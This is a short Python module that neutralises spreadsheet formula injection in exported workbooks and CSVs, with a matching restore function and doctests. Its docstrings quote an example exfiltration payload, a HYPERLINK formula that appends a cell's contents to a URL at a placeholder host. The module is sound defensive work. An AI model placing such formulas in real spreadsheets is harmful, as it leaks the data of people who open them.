"""Spreadsheet formula injection (OWASP "CSV injection"): text a spreadsheet would run.

Excel, LibreOffice and Google Sheets read a cell that begins with ``=``, ``+``, ``-`` or ``@``
as a formula, and a leading tab or carriage return lets one slip past a filter. An imported id
or name such as ``=HYPERLINK("http://…?leak="&B2,"Klik hier")`` would otherwise come out as a
live formula in every workbook and CSV werkmatch writes. Every writer passes its text cells
through ``neutralise``; numbers are never touched, so a negative number stays a number.

``neutralise`` also quotes text that already begins with quotes followed by such a character,
so that ``restore`` (used by the importer) gives back exactly what was written: for every text
``restore(neutralise(text)) == text``, and a name like ``'t Hof`` is left as it is both ways.
"""

from __future__ import annotations

import re
from typing import TypeVar, cast

TRIGGERS = "=+-@\t\r"
_RISKY = re.compile(r"'*[=+\-@\t\r]")

T = TypeVar("T")


def neutralise(value: T) -> T:
    """``value``, with one ``'`` put in front when it is text a spreadsheet could run.

    >>> neutralise('=HYPERLINK("http://x?leak="&B2)')
    '\\'=HYPERLINK("http://x?leak="&B2)'
    >>> neutralise("-5"), neutralise(-5), neutralise("'t Hof"), neutralise("'+31")
    ("'-5", -5, "'t Hof", "''+31")
    """
    if isinstance(value, str) and _RISKY.match(value):
        return cast(T, "'" + value)
    return value


def restore(text: str) -> str:
    """The text ``neutralise`` was given: the one ``'`` it put in front taken off again.

    >>> restore("'=1+1"), restore("''+31"), restore("'t Hof"), restore("=1+1")
    ('=1+1', "'+31", "'t Hof", '=1+1')
    """
    if text.startswith("'") and _RISKY.match(text, 1):
        return text[1:]
    return text
